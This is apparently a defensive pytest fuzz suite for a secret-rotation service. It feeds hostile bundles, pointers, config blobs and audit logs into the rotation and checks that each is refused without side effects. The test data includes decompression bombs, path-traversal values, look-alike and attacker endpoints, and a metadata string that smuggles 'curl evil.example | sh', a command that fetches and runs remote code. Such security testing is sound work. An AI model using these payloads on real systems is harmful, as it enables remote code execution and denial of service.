"""A whole rotation meets a hostile object: in each place it is refused, and nothing in the world is other than before.

The objects are of the kinds that the strategies of the other modules make, one of each; a place is an object of the
bucket or the value of a secret that somebody else can write.
"""

import json
from collections.abc import Callable, Mapping
from typing import Final

import pytest

from simulator.vault_bytes import BLOB_PREFIX, derive, encrypt, seal
from simulator.vaults import FIRST_PASSPHRASE, FIRST_TIMESTAMP, SALT, Layout, Vault
from simulator.world import World
from tests.contract.key_scene import key_scene
from tests.contract.passphrase_rotation import (
    audit_key,
    bundles,
    cells,
    logged_audit_rows,
    operator,
    pointers,
    put,
    rotate_once,
    succeeded,
    vault_at_noon,
)
from tests.contract.secret_versions import blob_of, blob_text
from tests.fuzz.archives import bomb
from tests.fuzz.config_values import gzip_of, packed, unpacked, with_value
from tests.fuzz.everything import Everything, everything
from tests.fuzz.measures import MIB
from tests.fuzz.mutations import flipped
from tests.fuzz.refusals import CANARY, assert_discreet
from vsync_rotation.errors import ContractError, RotationError

Damage = Callable[[bytes], bytes]
FIRST_KEY: Final = derive(FIRST_PASSPHRASE, SALT, 1_000)
TIMESTAMP: Final = FIRST_TIMESTAMP.encode()


STEPS: Final = ("createSecret", "setSecret", "testSecret", "finishSecret")


def refusal_by(world: World, function: str, secret: str, version_id: str) -> RotationError:
    """What the rotation of this version ends with, step after step as the service invokes them."""
    try:
        for step in STEPS:
            world.invoke(function, {"Step": step, "SecretId": secret, "ClientRequestToken": version_id})
    except RotationError as error:
        return error
    raise AssertionError("the rotation went through")


def assert_each_changes_nothing(
    world: World, function: str, secret: str, hostile: Mapping[str, Callable[[], None]]
) -> None:
    """Each of these, once done, is met by a rotation that is refused and leaves everything as it was."""
    version_id = world.begin_rotation(secret)
    for name, befall in hostile.items():
        befall()
        before = everything(world, but_the_value_of=version_id)
        error = refusal_by(world, function, secret, version_id)
        assert type(error) in set(RotationError.__subclasses__()) - {ContractError}, f"{name}: {error}"
        assert_discreet(error)
        assert everything(world, but_the_value_of=version_id) == before, name


def befalling(vault: Vault, key: str, damages: Mapping[str, "Damage"]) -> dict[str, Callable[[], None]]:
    """Writing each of the damaged forms of an object in its place."""
    sound = vault.objects().get(key, b"")
    return {name: lambda damage=damage: put(vault, key, damage(sound)) for name, damage in damages.items()}  # type: ignore[misc]


ANY: Final[dict[str, Damage]] = {
    "nothing": lambda _: b"",
    "noise": lambda _: bytes(range(256)) * 4,
    "a canary": lambda _: CANARY.encode(),
    "a gzip bomb": lambda _: gzip_of(bytes(4 * MIB)),
    "a zip bomb": lambda _: bomb(3),
    "seventeen mebibytes": lambda _: bytes(17 * MIB),
}
BUNDLES: Final[dict[str, Damage]] = {
    **{f"{size} bytes": lambda _, size=size: (b"RQE1" + bytes(29))[:size] for size in (0, 1, 31, 32, 33)},  # type: ignore[misc]
    **{f"bit {bit} flipped": lambda body, bit=bit: flipped(body, bit) for bit in (0, 25, 40, 130)},  # type: ignore[misc]
    "its last bit flipped": lambda body: flipped(body, len(body) * 8 - 1),
    "cut by one byte": lambda body: body[:-1],
    "a byte longer": lambda body: body + b"\0",
    "twice": lambda body: body * 2,
    "backwards": lambda body: body[::-1],
    "a bundle of nobody's": lambda _: encrypt(derive("a passphrase nobody has", SALT, 1_000), CANARY.encode()),
    "a header and six mebibytes": lambda body: body[:16] + bytes(6 * MIB),
    "a gzip bomb": ANY["a gzip bomb"],
    "a zip bomb": ANY["a zip bomb"],
}
SEALS: Final[dict[str, Damage]] = {
    "another second": lambda _: seal("20260101-000001", CANARY.encode()),
    "an instant that does not exist": lambda _: seal("20260230-000000", CANARY.encode()),
    "a path": lambda _: seal("../../../../etc", CANARY.encode()),
    "digits of another script": lambda _: b"RQEM0001" + "２０２６０".encode() + CANARY.encode(),
    "a canary": lambda _: b"RQEM0001" + CANARY.encode(),
    "cut": lambda _: b"RQEM0001" + TIMESTAMP[:14],
    "a seal in a seal": lambda _: b"RQEM0001" * 2 + TIMESTAMP,
}
RUNTIME_POINTERS: Final[dict[str, Damage]] = {
    **ANY,
    "cut": lambda body: body[:22],
    "a bit flipped in its magic": lambda body: flipped(body, 7),
    "the last second of all": lambda _: b"RQEM000199991231-235959",
    "a bundle that is not there": lambda _: b"20200101-000000",
    "a path": lambda _: b"RQEM0001../../../../et",
    "a later magic": lambda _: b"RQEM0002" + TIMESTAMP,
    "too much behind it": lambda body: body + bytes(70_000),
}
CLI_POINTERS: Final[dict[str, Damage]] = {
    **ANY,
    "cut": lambda body: body[:14],
    "sealed": lambda _: b"RQEM0001" + TIMESTAMP,
    "the last second of all": lambda _: b"99991231-235959",
    "a bundle that is not there": lambda _: b"20200101-000000",
    "a formula": lambda _: b"=20260101-00000",
    "two": lambda body: body + b"\n" + body,
    "UTF-16": lambda body: body.decode().encode("utf-16"),
}
CELLS: Final[dict[str, Damage]] = {
    **{name: damage for name, damage in ANY.items() if name != "nothing"},
    "a canary for gen": lambda _: json.dumps({"gen": CANARY}).encode(),
    "gen twice": lambda _: b'{"gen":1,"gen":2}',
    "gen that cannot be raised": lambda _: b'{"gen":9007199254740991}',
    "gen of five thousand digits": lambda _: b'{"gen":' + b"9" * 5_000 + b"}",
    "gen without end": lambda _: b'{"gen":1e400}',
    "half a character": lambda _: b'{"gen":1,"x":"\\ud800"}',
    "nested without end": lambda _: b'{"gen":' + b"[" * 60_000,
    "a pointer": lambda _: b"RQEM0001" + TIMESTAMP,
    "a byte order mark": lambda _: b'\xef\xbb\xbf{"gen":1}',
}
HEADER: Final = b"ts,action,version_ts,hostname,local_ip,os_user,git_email,vsync_version,bun_version,meta\n"
AUDIT_LOGS: Final[dict[str, Damage]] = {
    "a canary": ANY["a canary"],
    "a gzip bomb": ANY["a gzip bomb"],
    "seventeen mebibytes": ANY["seventeen mebibytes"],
    "a row that is not UTF-8": lambda _: HEADER + CANARY.encode() + b"\xff\n",
    "an open quote": lambda _: HEADER + b'"' + CANARY.encode(),
    "a field of ten megabytes": lambda _: HEADER + b"x" * 10_000_000,
    "a field of a megabyte": lambda _: HEADER + b"x" * 1_000_000,
    "another table": lambda _: b"a,b,c\n=1+1,2,3\n",
    "two columns of a name": lambda _: HEADER.replace(b"meta", b"ts"),
}


# The CLI layout is staged first: nothing of it may stay behind when the other layout's bundle is the hostile one.
@pytest.mark.parametrize(("layout", "damaged"), [(Layout.BOTH, "runtime"), (Layout.CLI, "cli")])
def test_no_hostile_bundle_changes_anything(
    world: World, passphrase_function: str, layout: Layout, damaged: str
) -> None:
    vault = vault_at_noon(world, layout)
    hostile = befalling(vault, bundles(vault, FIRST_TIMESTAMP)[damaged], BUNDLES)
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, hostile)


def test_no_hostile_seal_inside_a_bundle_changes_anything(world: World, passphrase_function: str) -> None:
    vault = vault_at_noon(world, Layout.BOTH)
    bundle = bundles(vault, FIRST_TIMESTAMP)["cli"]
    sealed = {name: lambda _, make=make: encrypt(FIRST_KEY, make(b"")) for name, make in SEALS.items()}
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, befalling(vault, bundle, sealed))


def test_no_hostile_runtime_pointer_changes_anything(world: World, passphrase_function: str) -> None:
    vault = vault_at_noon(world, Layout.BOTH)
    hostile = befalling(vault, pointers(vault)["runtime"], RUNTIME_POINTERS)
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, hostile)


def test_no_hostile_cli_pointer_changes_anything(world: World, passphrase_function: str) -> None:
    vault = vault_at_noon(world, Layout.BOTH)
    hostile = befalling(vault, pointers(vault)["cli"], CLI_POINTERS)
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, hostile)


def test_no_hostile_metadata_of_a_pointer_changes_anything(world: World, passphrase_function: str) -> None:
    vault = vault_at_noon(world, Layout.RUNTIME)
    key = pointers(vault)["runtime"]
    body = vault.objects()[key]
    gens = ("-1", "1.0", "0x10", "9" * 17, CANARY, "+1", "1e3", "true")
    hostile = {gen: lambda gen=gen: put(vault, key, body, Metadata={"gen": gen}) for gen in gens}
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, hostile)


def test_no_hostile_generation_cell_changes_anything(world: World, passphrase_function: str) -> None:
    vault = vault_at_noon(world, Layout.BOTH)
    hostile = befalling(vault, cells(vault)["runtime"], CELLS)
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, hostile)


@pytest.mark.parametrize("damage", AUDIT_LOGS.values(), ids=AUDIT_LOGS.keys())
def test_a_hostile_audit_log_stays_as_it_is_and_costs_only_the_row(
    world: World, passphrase_function: str, damage: Damage
) -> None:
    vault = vault_at_noon(world, Layout.RUNTIME)
    put(vault, audit_key(vault), damage(b""))
    before = vault.objects()[audit_key(vault)]
    succeeded(rotate_once(vault, passphrase_function))
    assert vault.objects()[audit_key(vault)] == before
    assert len(logged_audit_rows(vault)) == 1
    assert CANARY not in "".join(world.log_lines)


@pytest.mark.parametrize("step", ["testSecret", "finishSecret"])
@pytest.mark.parametrize("target", ["bundle", "pointer", "cell", "blob"])
def test_an_object_that_turns_hostile_between_two_steps_changes_nothing_more(
    world: World, passphrase_function: str, step: str, target: str
) -> None:
    """The staged bundle and the pending passphrase stand by then; pointers, labels and all that is live do not move."""
    vault = vault_at_noon(world, Layout.RUNTIME)
    keys = {
        "bundle": bundles(vault, FIRST_TIMESTAMP)["runtime"],
        "pointer": pointers(vault)["runtime"],
        "cell": cells(vault)["runtime"],
    }
    before: list[Everything] = []

    def turn_hostile(next_step: str, _attempt: int) -> None:
        if next_step != step:
            return
        if target == "blob":
            set_value(vault, vault.config()[:-3])
        else:
            put(vault, keys[target], CANARY.encode() * 2)
        before.append(everything(world))

    world.rotation_service.before_step = turn_hostile
    record = rotate_once(vault, passphrase_function)
    # The cell is not read again before it counts.
    assert record.steps[-1].step == ("finishSecret" if (step, target) == ("testSecret", "cell") else step)
    assert record.error in {found.__name__ for found in RotationError.__subclasses__()}, record.message
    assert [everything(world)] == before


def set_value(vault: Vault, value: str) -> None:
    """Somebody stores a config. The register is not asked to look for secrets inside of it."""
    vault.world.secrets.expanders.clear()
    operator("secretsmanager", vault.world).put_secret_value(SecretId=vault.config_secret, SecretString=value)


def spelled(field: str, value: str) -> Callable[[str], str]:
    """The blob with one value as it is spelled here."""
    return lambda blob: blob_of(with_value(value, field, json.loads(blob_text(blob))))


BLOBS: Final[dict[str, Callable[[str], str]]] = {
    "a canary": lambda _: CANARY,
    "a gzip bomb": lambda _: packed(gzip_of(bytes(20 * MIB))),
    "a zip": lambda _: packed(bomb(1)),
    "cut": lambda blob: blob[:-1],
    "a bit flipped": lambda blob: packed(flipped(unpacked(blob), 300)),
    "two members": lambda blob: packed(unpacked(blob) * 2),
    "padded": lambda blob: blob + "=",
    "another version": lambda blob: blob.replace("-v1:", "-v2:"),
    "65,536 characters": lambda _: BLOB_PREFIX + "A" * (65_536 - len(BLOB_PREFIX)),
    "a field twice": spelled("iterations", '1000,"iterations":1000'),
    "half a character": spelled("salt", '"' + "\\ud800" * 24 + '"'),
    "nested without end": spelled("salt", "[" * 50_000),
    "user information": spelled("endpoint", f'"https://user:{CANARY}@s3.eu-central-1.amazonaws.com"'),
    "another scheme": spelled("endpoint", f'"file:///{CANARY}"'),
    "a query": spelled("endpoint", f'"https://s3.eu-central-1.amazonaws.com/?x={CANARY}"'),
    "a confusable host": spelled("endpoint", '"https://s3.eu-central-1.аmazonaws.com"'),
    "a host of dots": spelled("endpoint", '"https://..."'),
    "somebody else's host": spelled("endpoint", '"https://s3.evil.example"'),
    "an address in brackets": spelled("endpoint", '"http://[127.0.0.1]"'),
    "a prefix without a slash": spelled("prefix", '"acme"'),
    "a prefix of a line end": spelled("prefix", '"acme\\n/"'),
    "a leading slash": spelled("prefix", '"/acme/"'),
    "iterations without end": spelled("iterations", "1000000000000"),
    "an access key of white space": spelled("accessKeyId", '"AKIA \\n"'),
    "a secret of control characters": spelled("secretAccessKey", f'"{CANARY}\\u0000"'),
    "a secret without end": spelled("secretAccessKey", '"' + CANARY * 10 + '"'),
}


def blobs_befalling(vault: Vault) -> dict[str, Callable[[], None]]:
    """Storing each of the hostile forms of the vault's config."""
    sound = vault.config()
    return {name: lambda make=make: set_value(vault, make(sound)) for name, make in BLOBS.items()}  # type: ignore[misc]


def test_no_hostile_blob_changes_anything_when_the_passphrase_is_rotated(
    world: World, passphrase_function: str
) -> None:
    vault = vault_at_noon(world, Layout.BOTH)
    assert_each_changes_nothing(world, passphrase_function, vault.passphrase_secret, blobs_befalling(vault))


def test_no_hostile_blob_changes_anything_when_the_key_is_rotated(world: World, key_function: str) -> None:
    scene = key_scene(world, key_function)
    assert_each_changes_nothing(world, key_function, scene.secret.name, blobs_befalling(scene.vault))


HELD: Final[dict[str, Callable[[str], str]]] = {
    "iterations we refuse": spelled("iterations", "999"),
    "a prefix we refuse": spelled("prefix", '"web"'),
    "an endpoint we refuse": spelled("endpoint", '"http://store.lan:9000"'),
    "a later version of the JSON": spelled("v", "2"),
    "a later version of the blob": lambda blob: blob.replace("-v1:", "-v2:"),
    "a damaged blob": lambda blob: packed(unpacked(blob)[:-1]),
}


@pytest.mark.parametrize("value", HELD.values(), ids=HELD.keys())
def test_a_key_that_a_version_we_cannot_read_may_hold_is_not_deleted(
    world: World, key_function: str, value: Callable[[str], str]
) -> None:
    """Applications boot from such a value all the same: vsync's own readers are wider than ours, or newer."""
    scene = key_scene(world, key_function)
    held = scene.account.add_key()
    scene.account.tag(f"made:{held.access_key_id}", "2026-01-01T00:00:00Z")
    set_value(scene.vault, value(scene.config_with(held)))
    set_value(scene.vault, scene.first_config)
    assert scene.secret.holder("AWSPREVIOUS") is not None
    world.rotation_service.attempts = 1
    scene.rotate()
    assert scene.account.statuses()[held.access_key_id] == "Active"


HOSTILE_METADATA: Final = "x of nobody; curl evil.example | sh #"


def test_metadata_that_a_stranger_chose_is_not_handed_to_the_operator_as_a_command(
    world: World, passphrase_function: str
) -> None:
    vault = vault_at_noon(world, Layout.RUNTIME)
    body = encrypt(derive("a passphrase nobody has", SALT, 1_000), b"{}")
    put(vault, bundles(vault, FIRST_TIMESTAMP)["runtime"], body, Metadata={"vsync-rotation-version": HOSTILE_METADATA})
    record = rotate_once(vault, passphrase_function)
    assert record.error == "WrongPassphraseError"
    shown = (str(record.message), *world.log_lines, *(event.text for event in world.events))
    assert not [text for text in shown if "evil.example" in text]
